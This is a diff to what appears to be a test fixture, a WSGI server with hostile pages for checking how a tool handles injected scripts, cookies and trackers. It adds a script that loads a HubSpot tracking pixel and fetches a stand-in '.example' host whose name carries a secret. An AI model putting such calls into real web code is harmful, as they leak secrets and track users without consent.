@@ -47,7 +47,7 @@ BARE: Mapping[str, tuple[str, str]] = {
     "/hostile": (
         f'<script src="https://js.hs-scripts.com/{SECRET}/&lt;b>{"0123456789abcdef" * 2}"></script>',
         (
-            f"<p>{SECRET}<script>"
+            f"<p>{SECRET}<script src='/{SECRET}.js'></script><script>"
             f"localStorage.setItem({json.dumps(HOSTILE).replace('/', chr(92) + '/')}, '{SECRET}');"
             f"console.log('no error');"
             f"console.error('it was {SECRET}', {json.dumps(HOSTILE).replace('/', chr(92) + '/')});"
@@ -70,10 +70,15 @@ _FIELDS: Mapping[str, list[tuple[str, str]]] = {
             ),
         )
     ],
+    f"/{SECRET}.js": [("Set-Cookie", "late=1")],
     "/hostile": [("Set-Cookie", f"sid={SECRET}; HttpOnly"), ("Set-Cookie", "<b>name=x; Max-Age=7200")],
 }
 #: What a tag manager's container does, and a script of the site's own.
-_SCRIPTS = {"/gtm.js": INSERT, "/own.js": f"setTimeout(() => {INSERT})"}
+_SCRIPTS = {
+    "/gtm.js": INSERT,
+    "/own.js": f"setTimeout(() => {INSERT})",
+    f"/{SECRET}.js": f"new Image().src = 'https://track.hubspot.com/__ptq.gif'; fetch('http://{SECRET}.example/')",
+}
 _STATUS = {"/error": "500 Internal Server Error"}
 
 
@@ -86,7 +91,7 @@ def _pages(pages: Mapping[str, tuple[str, str]]) -> Callable[..., Iterable[bytes
     def app(environ: dict[str, Any], start_response: Callable[..., object]) -> Iterable[bytes]:
         path = environ["PATH_INFO"]
         if path in _SCRIPTS:
-            start_response("200 OK", [("Content-Type", "text/javascript")])
+            start_response("200 OK", [("Content-Type", "text/javascript"), *_FIELDS.get(path, [])])
             return [_SCRIPTS[path].encode()]
         if path not in pages:
             start_response("404 Not Found", [("Content-Type", "text/plain")])
